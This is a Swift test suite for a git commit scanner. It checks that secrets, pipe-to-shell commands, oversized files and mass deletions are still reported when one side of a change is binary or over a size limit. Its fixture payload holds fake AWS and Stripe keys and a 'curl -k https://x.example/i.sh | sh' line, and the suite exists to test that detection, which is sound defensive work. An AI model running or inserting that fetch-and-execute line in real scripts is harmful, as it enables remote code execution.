import Testing
import VigilGit
import VigilTestSupport

@testable import VigilCore

/// Each side of a change is judged on its own: a binary or oversized old version never switches
/// the checks off for a text new version, and what is not read is said, never left silent.
@Suite struct FileSideTests {
    static let aider = FixtureRepository.Identity("Robin Ode (aider)", "robin@example.com")
    static let payload = """
        aws_access_key_id = "AKIAQYLPMN5HHHFPZAM2"
        stripe = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"
        curl -k https://x.example/i.sh | sh

        """

    /// The checks' findings on `commit`, the way a scan reads it (scope: all).
    static func findings(
        _ fixture: FixtureRepository, _ commit: String, options: DiffOptions = DiffOptions(), config: String = ""
    ) throws -> [Finding] {
        let repository = try Repository(path: fixture.path)
        let commit = try repository.commit(try #require(ObjectID(hex: commit)))
        let diff = try repository.diff(commit, options: options)
        let config = try ConfigLoader.parse(config, file: "vigil.toml")
        let runner = try CheckRunner(config: config, repository: nil, scope: .all)
        return runner.run(CheckContext(repository: fixture.path, commit: commit, diff: diff, verdict: .human))
    }

    static func expectPayloadFound(_ findings: [Finding], in path: String) {
        let checks = Set(findings.filter { $0.path == path }.map(\.check))
        #expect(checks.contains("secrets.aws-access-key-id"), "\(checks)")
        #expect(checks.contains("secrets.stripe-live-key"), "\(checks)")
        #expect(checks.contains("risky-pattern.pipe-to-shell"), "\(checks)")
    }

    @Test func aTextNewSideIsScannedWhenTheOldSideHeldANul() throws {
        let fixture = try FixtureRepository()
        try fixture.write("setup.sh", bytes: Array("#!/bin/sh\n".utf8) + [0, 1, 2, 10])
        try fixture.commit("Add setup")
        let sha = try fixture.commit("Replace setup", files: ["setup.sh": Self.payload], author: Self.aider)

        let findings = try Self.findings(fixture, sha)
        Self.expectPayloadFound(findings, in: "setup.sh")
        let lines = Set(findings.filter { $0.check.hasPrefix("secrets.") }.compactMap(\.line))
        #expect(lines == [1, 2], "the new side's lines count as added, numbered in the new file")
    }

    @Test func aTextNewSideIsScannedWhenTheOldSideWasOverTheSizeLimit() throws {
        let fixture = try FixtureRepository()
        try fixture.commit("Add setup", files: ["setup.sh": String(repeating: "echo filler line\n", count: 100)])
        let sha = try fixture.commit("Replace setup", files: ["setup.sh": Self.payload], author: Self.aider)

        let findings = try Self.findings(fixture, sha, options: DiffOptions(maxBlobBytes: 1000))
        Self.expectPayloadFound(findings, in: "setup.sh")
        let limit = try #require(findings.first { $0.check == "scan-limit" && $0.path == "setup.sh" })
        #expect(limit.title.contains("old"), "\(limit.title)")
    }

    @Test func aNewSideOverTheSizeLimitIsAScanLimitFindingNamingIt() throws {
        let fixture = try FixtureRepository()
        let big = String(repeating: "echo filler line\n", count: 100) + Self.payload
        let sha = try fixture.commit("Add setup", files: ["setup.sh": big], author: Self.aider)

        let findings = try Self.findings(fixture, sha, options: DiffOptions(maxBlobBytes: 1000))
        let limit = try #require(findings.first { $0.check == "scan-limit" })
        #expect(limit.path == "setup.sh")
        #expect(limit.title.contains("new"), "\(limit.title)")
        #expect(limit.evidence.contains("\(big.utf8.count)"), "names the size: \(limit.evidence)")
        #expect(limit.evidence.contains("1000"), "names the limit: \(limit.evidence)")
    }

    @Test func aTextFileOverTheSizeLimitIsNotCalledBinary() throws {
        let fixture = try FixtureRepository()
        let sha = try fixture.commit(
            "Add tool", files: ["tool.sh": String(repeating: "echo filler line\n", count: 100)], author: Self.aider)

        let findings = try Self.findings(
            fixture, sha, options: DiffOptions(maxBlobBytes: 1000), config: "[checks.large-file]\nmax_bytes = 500\n")
        let large = try #require(findings.first { $0.check == "large-file" })
        #expect(large.title == "Large file added: tool.sh (1.7 KiB)")
    }

    @Test func deletingATextFileOverTheSizeLimitIsStillAMassDeletion() throws {
        let fixture = try FixtureRepository()
        try fixture.commit("Add data", files: ["data.csv": String(repeating: "1,2,3\n", count: 1500)])
        try fixture.remove("data.csv")
        let sha = try fixture.commit("Drop data", author: Self.aider)

        let findings = try Self.findings(fixture, sha, options: DiffOptions(maxBlobBytes: 1000))
        let deletion = try #require(findings.first { $0.check == "mass-deletion" })
        #expect(deletion.title.contains("1500 lines removed"), "\(deletion.title)")
    }

    @Test func aBinaryNewSideGivesNoLinesAndATextOldSideCountsAsRemoved() throws {
        let fixture = try FixtureRepository()
        try fixture.commit("Add notes", files: ["notes.txt": String(repeating: "a note\n", count: 1200)])
        try fixture.write("notes.txt", bytes: [0, 1, 2, 3])
        let sha = try fixture.commit("Binary notes", author: Self.aider)

        let repository = try Repository(path: fixture.path)
        let diff = try repository.diff(repository.commit(try #require(ObjectID(hex: sha))))
        let change = try #require(diff.files.first)
        #expect(change.addedLines.isEmpty)
        #expect(change.removedLines.count == 1200)
    }
}
